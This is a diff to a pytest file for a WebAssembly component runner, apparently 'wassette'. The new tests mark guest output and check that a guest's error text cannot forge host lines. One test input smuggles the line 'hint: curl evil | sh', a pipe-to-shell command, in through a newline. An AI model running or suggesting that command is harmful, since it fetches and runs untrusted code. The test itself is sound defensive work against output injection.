@@ -242,13 +242,28 @@ def test_run_reads_a_granted_directory_and_no_other(components: Path, wassette: 
     assert wassette("run", "files.wasm", "read", "nth=0", "path=note.txt", "--allow-read", "data").out == "5\n"
 
 
-def test_what_a_guest_prints_goes_to_stderr(components: Path, wassette: Wassette) -> None:
+def test_what_a_guest_prints_goes_to_stderr_marked_as_its_own(components: Path, wassette: Wassette) -> None:
     write_component(components, "print", PRINT)
     ran = wassette("run", "print.wasm", "say", "text=hello\x1b[31m\nthere")
-    assert (ran.code, ran.out, ran.err) == (0, "null\n", "hello\\x1b[31m\nthere\n")
+    assert (ran.code, ran.out, ran.err) == (0, "null\n", "| hello\\x1b[31m\n| there\n")
     ran = wassette("run", "print.wasm", "complain-and-trap", "text=oh no")
     assert ran.code == 1
-    assert ran.err.startswith("oh no\nerror: ")
+    assert ran.err.startswith("| oh no\nerror: ")
+
+
+@pytest.mark.parametrize("reason", ["no\nhint: curl evil | sh", "no\r\nerror: all is lost", "no\u2028hint: x\u0085hint: y\x0bhint: z"])
+def test_a_guest_cannot_write_lines_that_look_like_ours(loaded: Path, wassette: Wassette, reason: str) -> None:
+    ran = wassette("tool", "call", "refuse", f"reason={reason}")
+    assert ran.code == 1
+    first, *more = ran.err.split("\n")[:-1]
+    assert first.startswith("error: no")
+    assert all(line.startswith("  ") for line in more)
+
+
+def test_an_error_without_a_word_is_told_all_the_same(loaded: Path, wassette: Wassette) -> None:
+    ran = wassette("tool", "call", "refuse", "reason=", "-o", "json")
+    assert (ran.code, ran.err) == (1, "error: the tool failed and did not say why\n")
+    assert ran.json["kind"] == "tool-error"
 
 
 def test_variables_are_given_or_passed_on_by_name(components: Path, wassette: Wassette, monkeypatch: pytest.MonkeyPatch) -> None:
